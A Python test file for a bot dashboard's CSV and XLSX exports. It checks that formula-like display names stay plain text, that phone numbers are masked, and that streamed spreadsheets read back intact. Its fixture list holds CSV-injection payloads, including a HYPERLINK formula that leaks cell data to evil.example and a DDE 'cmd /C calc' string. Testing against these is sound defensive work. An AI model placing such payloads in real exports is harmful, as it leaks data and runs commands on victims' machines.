"""Exports write every cell as text: a display name cannot become a spreadsheet formula (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from bot.web.dashboard.exports import HEADER, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+84 thủ đô",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def rows() -> list[list[object]]:
    return [[i, name, "telegram", "Đã gửi", 1, "", "2026-11-30 08:00:00"] for i, name in enumerate(HOSTILE)]


def test_csv_cells_starting_like_a_formula_are_quoted_text() -> None:
    data = to_csv(rows()).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(data)))
    assert table[0] == HEADER
    assert [r[1] for r in table[1:]] == ["'" + name for name in HOSTILE]
    assert table[1][0] == "0" and table[1][2] == "telegram"  # ordinary cells unchanged


def test_xlsx_cells_are_strings_never_formulas() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(rows(), "Báo cáo")))
    sheet = book.active
    assert sheet is not None
    names = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE))]
    assert all(c.data_type == "s" for c in names), [c.data_type for c in names]
    assert [str(c.value).replace("_x000D_", "\r") for c in names] == ["'" + name for name in HOSTILE]
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)


def test_report_rows_mask_phone_numbers_in_display_names() -> None:
    import datetime as dt

    from bot.web.dashboard import exports

    row = exports._row((7, "Mai 0912345678", "telegram", "sent", 1, None, None), dt.UTC)
    assert row[1] == "Mai ***"


def test_xlsx_streamed_page_by_page_reads_back_whole() -> None:
    """The dashboard streams the spreadsheet: pages of rows in, zip pieces out; Excel gets every row in order,
    an empty cell stays empty and a hostile name stays text."""
    from bot.web.dashboard.exports import XlsxStream

    pieces: list[bytes] = []
    stream = XlsxStream("Thong bao 7", pieces.append)
    page = [[i, f"Người {i}", "telegram", "Đã gửi", 1, "", "2026-11-30 08:00:00"] for i in range(1200)]
    for start in range(0, len(page), 500):
        stream.add(page[start:start + 500])
    stream.add(rows())
    stream.close()
    sheet = load_workbook(io.BytesIO(b"".join(pieces)), read_only=True).active
    assert sheet is not None
    got = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert got[0] == HEADER and len(got) == 1 + len(page) + len(HOSTILE)
    assert got[1] == ["0", "Người 0", "telegram", "Đã gửi", "1", None, "2026-11-30 08:00:00"]
    assert [r[0] for r in got[1:1 + len(page)]] == [str(i) for i in range(len(page))]
    assert got[-1][1] == "'" + HOSTILE[-1].replace("\r", "_x000D_")


TRICKY = [
    " leading space", "trailing space ", "nbsp\u00a0", "x_x0041_y", 'say "hi"', "a & b", "<b>bold</b>", "<r>rich</r>",
    "line\nbreak", "bell\x07", "emoji 😀", "odd\ufffe", "long " * 4000, "đ" * 40000, "Người dùng 1",
]


def _sheets(data: bytes) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:  # docProps/core.xml holds the time it was written
        return {n: z.read(n) for n in z.namelist() if n != "docProps/core.xml"}


def test_xlsx_plain_rows_written_in_one_piece_are_the_bytes_xlsxwriter_writes_cell_by_cell(monkeypatch: Any) -> None:
    """The report writes a row of plain text cells in one piece (XlsxWriter's per-cell work was most of a big
    report's time); the file must be exactly the one XlsxWriter writes cell by cell, plain rows and others."""
    from xlsxwriter.worksheet import Worksheet

    from bot.web.dashboard.exports import XlsxStream

    page: list[list[object]] = [[i, f"Người {i}", "telegram", "Đã gửi", 1, None, "2026-11-30 08:00"] for i in range(50)]
    page += [[100 + i, text, "zalo", "Lỗi", 2, text, ""] for i, text in enumerate(TRICKY)] + rows() + [[], [""]]

    def written(per_cell: bool) -> bytes:
        pieces: list[bytes] = []
        stream = XlsxStream("Thong bao 7", pieces.append)
        if per_cell:  # XlsxWriter's own write_string for every cell
            sheet = stream.sheet
            monkeypatch.setattr(sheet, "write_text_row", lambda r, values: [
                sheet.write_string(r, c, v) for c, v in enumerate(values) if v])  # fmt: skip
        for start in range(0, len(page), 7):
            stream.add(page[start:start + 7])
        stream.close()
        return b"".join(pieces)

    stock = _sheets(written(per_cell=True))
    calls: list[int] = []
    real = Worksheet.write_string
    monkeypatch.setattr(Worksheet, "write_string", lambda self, r, *a: calls.append(r) or real(self, r, *a))
    ours = _sheets(written(per_cell=False))
    assert ours["xl/worksheets/sheet1.xml"] == stock["xl/worksheets/sheet1.xml"]
    assert ours == stock
    assert calls and not set(calls) & set(range(1, 51)), "plain rows go in one piece, others cell by cell"
